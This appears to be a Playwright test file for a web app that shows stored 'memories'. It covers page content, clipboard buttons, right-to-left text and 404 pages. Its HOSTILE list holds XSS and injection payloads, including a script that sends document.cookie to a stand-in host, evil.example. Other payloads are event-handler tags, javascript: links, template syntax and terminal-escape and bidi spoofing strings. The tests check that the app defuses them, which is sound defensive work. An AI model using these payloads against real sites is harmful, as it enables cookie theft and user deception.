"""The page of one memory: reading, copying, and nothing that hostile text could do."""

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import OpenPage
from tests.factories import make_drawer, make_observation, make_prompt, make_session, make_summary, moment

HOSTILE = (
    "<script>location='http://evil.example/'+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(document.domain))",
    "![p](http://evil.example/pixel.png?d=secret)",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "</textarea></script><script>alert(1)</script>",
    "{{ 7*7 }} {% debug %}",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 abc\u202egnp.exe\u202c",
)


def open_hostile(open_page: OpenPage, address: str) -> Page:
    page = open_page(address)
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    page.wait_for_load_state("networkidle")
    return page


def test_an_observation_shows_all_it_holds(open_page: OpenPage) -> None:
    session = make_session("content-1", project="web-api", title="Repair sign-in")
    memory = make_observation(
        "Login loops forever",
        "The cookie was **gone**.\n\n```python\nreturn redirect('/')\n```",
        subtitle="Since the last release",
        facts=["`next` is read first", "Proxies strip it"],
        type="bugfix",
        project="web-api",
        session=session,
        concepts=["gotcha"],
        files=["src/auth.py"],
        modified=["src/session.py"],
        tags=["review"],
        created_at=moment(0),
    )
    page = open_page(f"/m/{memory.ref}/")
    expect(page).to_have_title("Login loops forever · memweb")
    expect(page.get_by_role("heading", level=1)).to_have_text("Login loops forever")
    assert page.locator(".memory-section > h2").all_inner_texts() == ["Facts"]
    assert page.locator(".memory-section li").all_inner_texts() == ["next is read first", "Proxies strip it"]
    expect(page.locator(".prose pre")).to_have_text("return redirect('/')")
    assert page.locator(".files li").all_inner_texts() == ["src/auth.py\nread", "src/session.py\nmodified"]
    expect(page.locator(".memory-head time").first).to_have_text("Tue 20 Jan 2026, 10:00:00 (Europe/Berlin)")
    page.locator(".files a", has_text="src/auth.py").click()
    expect(page.locator(".hit-title")).to_have_text("Login loops forever")


@pytest.mark.parametrize("kind", ["summary", "prompt", "drawer"])
def test_every_kind_has_a_page(open_page: OpenPage, kind: str) -> None:
    memory = {"summary": make_summary, "prompt": make_prompt, "drawer": make_drawer}[kind]("Repair the login page")
    page = open_page(f"/m/{memory.ref}/")
    expect(page.get_by_role("heading", level=1)).to_have_text("Repair the login page")
    expect(page.locator(".prose").first).to_contain_text("Repair the login page")


def test_copy_buttons_fill_the_clipboard_and_say_so(open_page: OpenPage) -> None:
    memory = make_observation("Login loops forever", "The cookie was **gone**.")
    page = open_page(f"/m/{memory.ref}/")
    read = "navigator.clipboard.readText()"
    for name, text in (
        ("Copy citation", f"[{memory.ref}] Login loops forever"),
        ("Copy link", page.url),
        ("Copy as Markdown", page.locator("#memory-markdown").text_content()),
    ):
        button = page.get_by_role("button", name=name)
        handle = button.element_handle()
        button.click()
        page.wait_for_function("button => button.textContent.includes('Copied')", arg=handle)
        assert page.evaluate(read) == text
        expect(page.locator("#announcer")).to_have_text(f"{name}: Copied")
    assert "The cookie was **gone**." in page.evaluate(read)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_does_nothing_and_stays_readable(open_page: OpenPage, text: str) -> None:
    memory = make_observation(
        f"title {text}",
        f"{text} needle",
        subtitle=text,
        facts=[text],
        concepts=[text],
        modified=[text],
        tags=[text],
        type=text,
        project=text,
        session=make_session(text, project=text, title=text),
    )
    for address in ("/?q=needle", f"/m/{memory.ref}/"):
        page = open_hostile(open_page, address)
        assert page.url.endswith(address)
        assert (
            page.locator("main a[href^='javascript:'], main img, main script, main [onload], main [onerror]").count()
            == 0
        )
        assert page.locator("main a[href*='evil.example']:not([href^='/'])").count() == 0
        assert "needle" in page.locator("main").inner_text()
        for control in ("\x1b", "\u202e", "\x07"):
            assert control not in page.locator("main").inner_text()


def test_right_to_left_text_has_its_own_direction(open_page: OpenPage) -> None:
    memory = make_observation("إصلاح تسجيل الدخول", "كان ملف تعريف الارتباط يُمسح.")
    page = open_page(f"/m/{memory.ref}/")
    direction = "element => getComputedStyle(element).direction"
    assert page.get_by_role("heading", level=1).evaluate(direction) == "rtl"
    assert page.locator(".prose").first.evaluate(direction) == "rtl"
    assert page.locator("main").evaluate(direction) == "ltr"


def test_refs_beside_wrapped_titles_stay_whole(open_page: OpenPage) -> None:
    session = make_session("s1")
    make_prompt("What was asked is told in so many words that they wrap. " * 3, session=session, created_at=moment(0))
    memory = make_observation("It", session=session, created_at=moment(1))
    page = open_page(f"/m/{memory.ref}/")
    box = page.locator(".place .mono").first.bounding_box()
    title = page.locator(".place a").first.bounding_box()
    assert box is not None
    assert title is not None
    assert box["height"] < title["height"] / 1.5
    assert box["y"] < title["y"] + title["height"] / 2


def test_unknown_memories_are_a_page_that_says_so(open_page: OpenPage, mishaps: list[str]) -> None:
    page = open_page("/m/o99999/")
    expect(page.get_by_role("heading", level=1)).to_have_text("There is nothing here")
    expect(page.locator("main")).to_contain_text("There is no memory o99999")
    page.get_by_role("link", name="Go to search").click()
    expect(page.locator("#q")).to_be_visible()
    assert len(mishaps) == 1  # the browser's own line about the status 404
    mishaps.clear()
